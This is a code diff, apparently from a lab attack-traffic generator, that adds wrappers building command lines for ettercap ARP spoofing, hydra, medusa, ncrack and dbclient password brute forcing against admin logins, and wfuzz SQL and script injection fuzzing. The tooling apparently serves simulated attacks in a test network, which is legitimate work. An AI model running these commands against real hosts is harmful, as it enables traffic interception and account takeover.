@@ -38,6 +38,30 @@ def arpspoof(s: Strike, *, both: bool = True) -> list[str]:
     ]
 
 
+@tool("spoof.arp", package="ettercap-text-only", reach="mac")
+def ettercap(s: Strike, *, one_way: bool = False) -> list[str]:
+    """ettercap between the target and the gateway, told who they are instead of sweeping for them."""
+    ends = (s.target, s.world.host("gateway"))
+    known = s.list_file("hosts", [f"{host.address} {host.mac} -" for host in ends])
+    return [
+        "timeout",
+        "-s",
+        "INT",
+        str(int(s.seconds)),
+        "ettercap",
+        "-T",
+        "-q",
+        "-z",
+        "-j",
+        known,
+        "-i",
+        "eth0",
+        "-M",
+        "arp:oneway" if one_way else "arp:remote",
+        *(f"/{host.address}//" for host in ends),
+    ]
+
+
 @tool("brute_force")
 def own_mqtt_guess(
     s: Strike, *, rate: float = 8.0, workers: int = 4, port: int = 1883, users: int = 1
@@ -91,22 +115,45 @@ def own_telnet_guess(s: Strike, *, rate: float = 4.0, workers: int = 3, port: in
 
 
 @tool("brute_force", package="hydra")
-def hydra(s: Strike, *, form: bool = False, tasks: int = 4, words: int = 150) -> list[str]:
-    """hydra on the login form or on basic authentication."""
+def hydra(
+    s: Strike, *, form: bool = False, service: str = "http", tasks: int = 4, words: int = 150
+) -> list[str]:
+    """hydra on the login form, on basic authentication, or with service "ssh" or "telnet" on a prompt."""
     listed = s.list_file("words", guesses(s.random, min(words, 600)))
-    where = (
-        ["http-post-form", "/login:user=^USER^&password=^PASS^:wrong name"]
-        if form
-        else ["http-get", "/admin"]
-    )
+    where = {"http": ["http-get", "/admin"], "ssh": ["ssh"], "telnet": ["telnet"]}[service]
+    if form:
+        where = ["http-post-form", "/login:user=^USER^&password=^PASS^:wrong name"]
     return ["hydra", "-q", "-I", "-l", "admin", "-P", listed, "-t", str(tasks), s.address, *where]
+
+
+@tool("brute_force", package="dropbear-bin")
+def dbclient_guess(s: Strike, *, words: int = 60, pause: float = 0.2) -> list[str]:
+    """A loop of dbclient over a word list: one SSH connection a password."""
+    listed = s.list_file("words", guesses(s.random, min(words, 600)))
+    one = f'DROPBEAR_PASSWORD="$w" dbclient -y -y -T admin@{s.address} id </dev/null >/dev/null 2>&1'
+    return [
+        "sh",
+        "-c",
+        f"end=$(($(date +%s)+{int(s.seconds)})); while read -r w && [ $(date +%s) -lt $end ]; do {one}; sleep {pause}; done <{listed}",
+    ]
+
+
+@tool("brute_force", package="medusa")
+def medusa(s: Strike, *, service: str = "http", words: int = 100, tasks: int = 3) -> list[str]:
+    """medusa on basic authentication, or with service "ssh" or "telnet" on a prompt."""
+    listed = s.list_file("words", guesses(s.random, min(words, 600)))
+    where = {"http": ["-M", "http", "-m", "DIR:admin"], "ssh": ["-M", "ssh"], "telnet": ["-M", "telnet"]}[
+        service
+    ]
+    return ["medusa", "-h", s.address, "-u", "admin", "-P", listed, "-t", str(tasks), *where]
 
 
 @tool("brute_force", package="ncrack")
 def ncrack(s: Strike, *, service: str = "http", words: int = 120, connections: int = 6) -> list[str]:
-    """ncrack on HTTP basic authentication or on MQTT."""
+    """ncrack on HTTP basic authentication, MQTT, SSH or telnet."""
     listed = s.list_file("words", guesses(s.random, min(words, 600)))
-    target = f"http://{s.address}:80,path=/admin" if service == "http" else f"mqtt://{s.address}:1883"
+    port = {"http": "80,path=/admin", "mqtt": "1883", "ssh": "22", "telnet": "23"}[service]
+    target = f"{service}://{s.address}:{port}"
     return ["ncrack", "--user", "admin", "-P", listed, "-g", f"CL={connections},to={int(s.seconds)}s", target]
 
 
@@ -193,3 +240,27 @@ def own_xss(
         seconds=s.seconds,
         seed=s.random.getrandbits(32),
     )
+
+
+def _wfuzz(s: Strike, listed: str, *, pause: float, clients: int, post: bool) -> list[str]:
+    """Every line of one of wfuzz's own lists, in a parameter of the item page or of the search form."""
+    words = ["-z", f"file,/usr/share/wfuzz/wordlist/Injections/{listed}"]
+    pace = ["-s", f"{pause:g}", "-t", str(clients), "-H", "Connection: close"]
+    where = (
+        ["-d", "text=FUZZ&name=x", f"http://{s.address}/comments"]
+        if post
+        else [f"http://{s.address}/item?id=FUZZ"]
+    )
+    return ["wfuzz", *words, *pace, *where]
+
+
+@tool("web.sqli", package="wfuzz")
+def wfuzz_sqli(s: Strike, *, pause: float = 0.2, clients: int = 2, post: bool = False) -> list[str]:
+    """wfuzz with its list of SQL injections."""
+    return _wfuzz(s, "SQL.txt", pause=pause, clients=clients, post=post)
+
+
+@tool("web.xss", package="wfuzz")
+def wfuzz_xss(s: Strike, *, pause: float = 0.2, clients: int = 2, post: bool = False) -> list[str]:
+    """wfuzz with its list of script injections."""
+    return _wfuzz(s, "XSS.txt", pause=pause, clients=clients, post=post)
